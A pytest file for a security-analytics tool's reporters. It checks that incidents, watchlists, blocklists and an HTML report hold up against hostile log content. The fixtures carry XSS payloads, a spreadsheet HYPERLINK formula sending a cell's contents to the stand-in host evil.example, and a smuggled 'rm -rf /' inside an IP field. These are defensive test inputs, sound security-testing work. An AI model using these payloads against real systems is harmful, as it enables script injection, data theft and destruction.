"""Reporters: incidents, watchlist, blocklists and the HTML report, with hostile log content."""

from __future__ import annotations

import csv
from html.parser import HTMLParser

import orjson

from tracehound.findings import Finding
from tracehound.report import OUTPUT_FILES, write_outputs
from tracehound.report.artefacts import blocklist_ips, watchlist_rows
from tracehound.report.safety import csv_cell

XSS_UA = "<script>document.title='PWNED'</script>"
XSS_ATTR = "\"><img src=x onerror=\"document.title='PWNED'\">"
FORMULA_USER = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
#: An agent a campaign used that half the tenant's successful sign-ins use too: never blocked.
COMMON_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0"


def hostile_findings() -> list[Finding]:
    spray = Finding(
        kind="password_spray", id="spray-1", title=f"Low-and-slow spray using {XSS_UA}", severity="high",
        score=9.5, first_seen="2024-01-03T00:00:00Z", last_seen="2024-03-01T00:00:00Z",
        actors={"ips": ["198.51.100.7"], "user_agents": [XSS_UA, COMMON_UA]},
        targets={"users": ["alice@contoso.com", FORMULA_USER, "bob@contoso.com"]},
        event_ids=["e1", "e2"], success_event_ids=["s1"],
        explanation=f"Attempts always used user agent {XSS_UA} and {XSS_ATTR}.",
        evidence={"compromised_users": ["bob@contoso.com", "carol@contoso.com"],
                  "anomalous_values": {"user_agent": [XSS_UA]},
                  "daily_attempts": {"campaign": {"2024-01-03": 2, "2024-01-04": 1},
                                     "baseline": {"2024-01-03": 40, "2024-01-04": 35}},
                  "mixture": {"weights": [0.7, 0.3], "cluster": 1, "fields": ["ip_prefix", "user_agent"],
                              "field_probabilities": [[0.1, 0.0], [0.95, 0.99]]}})
    scan = Finding(kind="web_session", id="web-1", title="Scanner", severity="high", score=5.0,
                   first_seen="2024-01-05T00:00:00Z", last_seen="2024-01-05T01:00:00Z",
                   actors={"ips": ["192.0.2.9", "2001:db8::1", "not-an-ip; rm -rf /"],
                           "user_agents": ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)"]}, event_ids=["w1"],
                   explanation="scanner", evidence={"rare_transitions": [
                       {"from": "GET /", "to": XSS_ATTR, "probability": 0.0},
                       {"from": "GET /x/%22${WEBLOC}/view.php", "to": "GET /$fi$le", "probability": 0.1}]})
    lateral = Finding(kind="lateral_movement", id="lat-1", title="alice moved", severity="medium",
                      score=3.0, first_seen="2024-01-06T14:00:00Z", last_seen="2024-01-06T15:00:00Z",
                      actors={"users": ["alice@contoso.com"]}, targets={"hosts": ["WS1", "WS2"]}, event_ids=["l1"],
                      explanation="x", evidence={"series": [{"bucket": "2024-01-06T13:00:00Z", "count": 2},
                                                            {"bucket": "2024-01-06T14:00:00Z", "count": 11}],
                                                 "bound": 4, "bucket": "1h", "entity": "alice",
                                                 "baseline_start": "2024-01-05T00:00:00Z",
                                                 "baseline_end": "2024-01-06T14:00:00Z",
                                                 "bucket_end": "2024-01-06T15:00:00Z",
                                                 "buckets_over_bound": ["2024-01-06T14:00:00Z"]})
    sweep = Finding(kind="host_scan", id="scan-1", title="10.0.0.5 contacted 40 destination IPs in 1h",
                    severity="high", score=4.0, first_seen="2024-01-07T00:00:00Z", last_seen="2024-01-07T01:00:00Z",
                    actors={"ips": ["10.0.0.5"]}, targets={"ips": ["10.0.0.7", "10.0.0.8"]}, event_ids=["c1"],
                    explanation="sweep", evidence={})
    return [lateral, spray, scan, sweep]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def test_outputs_written_and_hostile_text_stays_text(tmp_path):
    paths = write_outputs(hostile_findings(), tmp_path, [("inputs", XSS_UA)])
    assert set(paths) == set(OUTPUT_FILES) and all(p.exists() for p in paths.values())
    page = paths["report.html"].read_text()
    parser = _Elements()
    parser.feed(page)
    assert not [t for t, _ in parser.tags if t == "script"]
    assert not [a for _, a in parser.tags if any(k.startswith("on") for k in a)]
    assert "&lt;script&gt;document.title=&#x27;PWNED&#x27;&lt;/script&gt;" in page
    assert [a["src"][:22] for t, a in parser.tags if t == "img"][:1] == ["data:image/png;base64,"]


def test_watchlist_neutralises_formulas_and_ranks_compromised_first(tmp_path):
    write_outputs(hostile_findings(), tmp_path, [])
    with (tmp_path / "watchlist_accounts.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["account"] == "bob@contoso.com" and rows[0]["status"] == "compromised"
    formula = [r for r in rows if "HYPERLINK" in r["account"]][0]
    assert formula["account"].startswith("'=")
    assert {r["status"] for r in rows if r["account"] == "alice@contoso.com"} == {"suspicious"}
    assert all(not r["reasons"].startswith(("=", "+", "-", "@")) for r in rows)


def test_blocklists_hold_actors_of_blockable_kinds_only(tmp_path):
    """Never a target (the swept hosts), never a rotating spray address, never text; an internal
    scanner goes to the hosts to isolate; a web visitor's browser string and a campaign's common
    agent never reach the user-agent blocklist, a campaign's rare tool agent does."""
    rows = [f.to_dict() for f in hostile_findings()]
    assert blocklist_ips(rows) == ["192.0.2.9", "2001:db8::1"]
    paths = write_outputs(hostile_findings(), tmp_path, [])
    assert paths["isolate_hosts.txt"].read_text() == "10.0.0.5\n"
    assert (tmp_path / "blocklist_user_agents.txt").read_text() == XSS_UA + "\n"
    assert "10.0.0.7" not in paths["blocklist_ips.nft"].read_text() + paths["blocklist_ips.ipset"].read_text()


def test_incidents_carry_attack_techniques_in_priority_order(tmp_path):
    write_outputs(hostile_findings(), tmp_path, [])
    incs = orjson.loads((tmp_path / "incidents.json").read_bytes())
    # compromise > lateral movement > reconnaissance; within reconnaissance the scan before the fold
    assert [i["kind"] for i in incs] == ["password_spray", "lateral_movement", "host_scan", "web_session"]
    assert [i["tier"] for i in incs] == ["compromise", "lateral", "reconnaissance", "reconnaissance"]
    assert [i["incidentNumber"] for i in incs] == [1, 2, 3, 4]
    assert incs[0]["properties"]["additionalData"]["techniques"] == ["T1110.003"]
    assert incs[2]["properties"]["additionalData"]["techniques"] == ["T1046"]
    assert incs[1]["properties"]["additionalData"]["techniques"] == ["T1021"]
    assert incs[2]["actors"] == {"ips": ["10.0.0.5"]} and incs[2]["targets"] == {"ips": ["10.0.0.7", "10.0.0.8"]}
    assert incs[0]["properties"]["severity"] == "High" and incs[0]["finding_ids"] == ["spray-1"]
    assert incs[0]["compromised_users"] == ["bob@contoso.com", "carol@contoso.com"]
    assert incs[3]["folded"] and incs[3]["properties"]["severity"] == "Low"


def test_watchlist_rows_take_the_worst_status_and_name_their_incidents():
    rows = [f.to_dict() for f in hostile_findings()]
    from tracehound.report.incidents import incidents

    by_account = {r["account"]: r for r in watchlist_rows(rows, incidents(rows))}
    assert by_account["alice@contoso.com"]["status"] == "suspicious"  # targeted, and an actor moving laterally
    assert by_account["alice@contoso.com"]["incidents"] == [1, 2]
    # A linked success on an account the campaign never failed on is still compromised.
    assert by_account["carol@contoso.com"]["status"] == "compromised"
    assert by_account["carol@contoso.com"]["incidents"] == [1]
    assert by_account[FORMULA_USER]["status"] == "targeted"


def test_cell_neutraliser():
    assert csv_cell("-2+3") == "'-2+3" and csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("ok") == "ok"
    assert csv_cell("  =1+1") == "'  =1+1" and csv_cell("\r=1") == "' =1" and csv_cell("a\nb") == "a b"


def test_plots_are_capped_per_kind_and_the_cap_is_said_once(tmp_path):
    from tracehound.report.html import MAX_PLOTTED_PER_KIND

    lateral = hostile_findings()[0]
    many = [Finding(**{**lateral.to_dict(), "id": f"lat-{i}", "score": float(i), "actors": {"users": [f"u{i}"]}})
            for i in range(MAX_PLOTTED_PER_KIND + 3)]
    page = write_outputs(many, tmp_path, [])["report.html"].read_text()
    assert page.count('src="data:image/png;base64,') == MAX_PLOTTED_PER_KIND
    assert page.count("most urgent findings of each kind") == 1


def test_report_opens_with_compromised_accounts_and_the_most_urgent_incident(tmp_path):
    page = write_outputs(hostile_findings(), tmp_path, [])["report.html"].read_text()
    triage = page.index("<h2>Triage</h2>")
    assert page.index("2 account(s) likely compromised") > triage
    assert page.index("carol@contoso.com", triage) < page.index('<section class="incident" id="inc-1">')
    first, second = page.index('id="inc-1"'), page.index('id="inc-2"')
    assert "Low-and-slow spray" in page[first:second]
    # the mixture is drawn once per run, not once per spray
    spray = hostile_findings()[1]
    twice = [*hostile_findings(), Finding(**{**spray.to_dict(), "id": "spray-2", "actors": {"ips": ["198.51.100.8"]}})]
    page = write_outputs(twice, tmp_path / "two", [])["report.html"].read_text()
    assert page.count('<img alt="Cluster weights of the mixture') == 1


def test_fanout_chart_draws_the_bucket_its_title_counts():
    """A burst counted in a half-shifted bucket (14:30-15:30) is drawn at that count over that span."""
    from tracehound.report.plots import fanout_chart

    lateral = hostile_findings()[0].to_dict()
    ev = lateral["evidence"]
    ev["flagged_buckets"] = [{"start": "2024-01-06T14:30:00Z", "end": "2024-01-06T15:30:00Z", "count": 14}]
    ev["bucket_end"] = "2024-01-06T16:00:00Z"
    counts, flagged = fanout_chart(lateral)
    assert max(b["count"] for b in flagged) == 14 and counts.max() == 11
    assert flagged[0]["end"] - flagged[0]["start"] == __import__("pandas").Timedelta(hours=1)


def test_spray_field_chart_marks_the_campaigns_anomalous_values_red():
    from tracehound.report.plots import field_chart

    ev = {"field_value_probabilities": {"country": {"US": 0.7, "GB": 0.2, "RO": 2e-6}},
          "anomalous_values": {"country": ["RO"]}}
    labels, probs, red = field_chart(ev, "country")
    assert labels == ["US", "GB", "RO"] and red == {"RO"} and probs[-1] == 2e-6
